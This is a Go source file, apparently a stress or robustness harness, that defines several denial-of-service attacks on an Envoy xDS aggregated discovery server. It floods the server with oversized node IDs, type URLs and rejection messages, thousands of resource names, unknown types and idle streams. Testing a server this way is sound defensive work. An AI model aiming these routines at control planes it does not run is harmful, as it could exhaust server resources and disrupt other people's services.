package main

import (
	"context"
	"fmt"
	"strings"
	"time"

	corev3 "github.com/envoyproxy/go-control-plane/envoy/config/core/v3"
	discoveryv3 "github.com/envoyproxy/go-control-plane/envoy/service/discovery/v3"
	"google.golang.org/genproto/googleapis/rpc/status"
	"google.golang.org/protobuf/types/known/structpb"
)

// attack attacks the server over one connection. It returns when the attack is complete, or when
// the server or ctx has ended its stream. n is different in each call.
type attack func(ctx context.Context, client adsClient, n int) error

var attacks = map[string]attack{
	"none":  func(ctx context.Context, _ adsClient, _ int) error { return pause(ctx) },
	"types": unknownTypes,
	"nacks": func(ctx context.Context, client adsClient, n int) error { return rejectResponses(ctx, client, 10) },
	"reasons": func(ctx context.Context, client adsClient, n int) error {
		return rejectResponses(ctx, client, largestText)
	},
	"nodes":     largeNodes,
	"names":     manyNames,
	"type-urls": longTypes,
	"streams":   idleStreams,
}

// largestText is a little less than the size of the largest message that the server reads.
const largestText = 260_000

type (
	adsClient = discoveryv3.AggregatedDiscoveryServiceClient
	adsStream = discoveryv3.AggregatedDiscoveryService_StreamAggregatedResourcesClient
)

func pause(ctx context.Context) error {
	ctx, cancel := context.WithTimeout(ctx, time.Second)
	defer cancel()
	<-ctx.Done()
	return ctx.Err()
}

func unknownTypes(ctx context.Context, client adsClient, _ int) error {
	stream, err := client.StreamAggregatedResources(ctx)
	for i := 0; i < 65_535 && err == nil; i++ {
		err = stream.Send(&discoveryv3.DiscoveryRequest{TypeUrl: fmt.Sprint("type.googleapis.com/made.up.", i)})
	}
	return drain(stream, err)
}

func drain(stream adsStream, err error) error {
	for err == nil {
		_, err = stream.Recv()
	}
	return err
}

// rejectResponses rejects each response three times, with an error message of the given length, and
// requests another name in the second of these rejections.
func rejectResponses(ctx context.Context, client adsClient, messageLength int) error {
	stream, err := client.StreamAggregatedResources(ctx)
	if err != nil {
		return err
	}
	padding := strings.Repeat("r", messageLength)
	err = stream.Send(&discoveryv3.DiscoveryRequest{TypeUrl: clusterType, ResourceNames: []string{"a"}, Node: &corev3.Node{Id: "attacker"}})
	for i := 0; i < 1000 && err == nil; i++ {
		var r *discoveryv3.DiscoveryResponse
		if r, err = stream.Recv(); err != nil {
			return err
		}
		for _, name := range []string{"a", "b", "a"} {
			err = stream.Send(&discoveryv3.DiscoveryRequest{
				TypeUrl: clusterType, ResourceNames: []string{name}, ResponseNonce: r.GetNonce(),
				ErrorDetail: &status.Status{Message: fmt.Sprint(i, padding)},
			})
		}
	}
	return err
}

func largeNodes(ctx context.Context, client adsClient, n int) error {
	node := &corev3.Node{Id: strings.Repeat("n", largestText)}
	if n%2 == 0 {
		node = &corev3.Node{Id: "attacker", Metadata: &structpb.Struct{Fields: map[string]*structpb.Value{
			"x": structpb.NewListValue(&structpb.ListValue{Values: make([]*structpb.Value, largestText/2)}),
		}}}
		list := node.Metadata.Fields["x"].GetListValue().Values
		for i := range list {
			list[i] = new(structpb.Value)
		}
	}
	stream, err := client.StreamAggregatedResources(ctx)
	if err == nil {
		err = stream.Send(&discoveryv3.DiscoveryRequest{TypeUrl: endpointType, ResourceNames: []string{"none"}, Node: node})
	}
	for i := 0; i < 20 && err == nil; i++ {
		_, err = stream.Recv()
		if err == nil {
			err = stream.Send(&discoveryv3.DiscoveryRequest{TypeUrl: endpointType, ResourceNames: []string{"none", fmt.Sprint(i)}, Node: node})
		}
	}
	return err
}

// makeNames returns n names with a prefix. Each request uses a different prefix, so that no name is
// requested twice.
func makeNames(prefix string, n int) []string {
	names := make([]string, n)
	for i := range names {
		names[i] = fmt.Sprint(prefix, "-", i)
	}
	return names
}

func manyNames(ctx context.Context, client adsClient, n int) error {
	stream, err := client.StreamAggregatedResources(ctx)
	for i := 0; i < 10 && err == nil; i++ {
		for _, typeURL := range []string{endpointType, clusterType, listenerType} {
			if err == nil {
				err = stream.Send(&discoveryv3.DiscoveryRequest{TypeUrl: typeURL, ResourceNames: makeNames(fmt.Sprint(n, "-", i), 5000)})
			}
		}
	}
	return drain(stream, err)
}

func longTypes(ctx context.Context, client adsClient, _ int) error {
	stream, err := client.StreamAggregatedResources(ctx)
	for i := 0; i < 16 && err == nil; i++ {
		err = stream.Send(&discoveryv3.DiscoveryRequest{TypeUrl: fmt.Sprint(i, strings.Repeat("t", largestText))})
	}
	return drain(stream, err)
}

func idleStreams(ctx context.Context, client adsClient, n int) error {
	var last adsStream
	for i := range 8 {
		stream, err := client.StreamAggregatedResources(ctx)
		if err == nil {
			err = stream.Send(&discoveryv3.DiscoveryRequest{TypeUrl: endpointType, ResourceNames: makeNames(fmt.Sprint(n, "-", i), 3000)})
		}
		if err != nil {
			return err
		}
		last = stream
	}
	return drain(last, nil)
}
